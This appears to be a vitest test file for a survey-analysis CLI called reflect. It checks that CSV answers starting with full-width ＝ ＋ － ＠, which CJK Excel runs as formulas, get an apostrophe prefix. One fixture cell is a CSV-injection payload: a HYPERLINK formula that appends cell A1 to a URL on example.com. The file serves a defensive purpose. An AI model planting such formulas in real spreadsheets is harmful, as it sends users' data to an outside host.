// What a spreadsheet makes of reflect's CSVs: cells it would run as formulas, and cells it cannot hold.
// Each folder is made here, as a school exports it, and analysed by the built binary.
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import { reflect, tempDir } from './helpers.js';

/** A folder holding `files` (name → text), and the output folder of `reflect analyze` on it. */
function analysed(files: Record<string, string>, args: string[] = []): { out: string; stderr: string } {
  const dir = tempDir();
  const folder = path.join(dir, 'forum');
  mkdirSync(folder);
  for (const [name, text] of Object.entries(files)) writeFileSync(path.join(folder, name), text);
  const out = path.join(dir, 'report');
  const run = reflect(['analyze', folder, '--out', out, ...args]);
  expect(run.code).toBe(0);
  return { out, stderr: run.stderr };
}

const rowsOf = (out: string, table: string) => parse(readFileSync(path.join(out, `${table}.csv`)), { columns: true }) as Record<string, string>[];

describe('answers typed on a Japanese keyboard', () => {
  // An exchange school's sheets: full-width ＝ ＋ － ＠ are what a Japanese IME types, and CJK Excel reads
  // them as the operators, so a cell starting with one runs as a formula like one starting with =.
  const survey = [
    'id,grade,What would you change at your school?',
    'J01,10,"＝HYPERLINK(""http://example.com/?d=""&A1,""詳細"")"',
    'J02,10,－ 部活の時間をもっと長くしてほしい',
    'J03,11,＋ more choice of electives',
    'J04,11,＠everyone should get a laptop',
    'J05,12,More choice of electives and a later start',
  ].join('\n');

  it('prefixes them with an apostrophe in responses.csv, and leaves other answers alone', () => {
    const { out } = analysed({ 'exchange-sheets.csv': `${survey}\n` });
    const text = new Map(rowsOf(out, 'responses').map((r) => [r.participant_id, r.text]));
    expect(text.get('J01')).toBe('\'＝HYPERLINK("http://example.com/?d="&A1,"詳細")');
    expect(text.get('J02')).toBe("'－ 部活の時間をもっと長くしてほしい");
    expect(text.get('J03')).toBe("'＋ more choice of electives");
    expect(text.get('J04')).toBe("'＠everyone should get a laptop");
    expect(text.get('J05')).toBe('More choice of electives and a later start');
  });
});
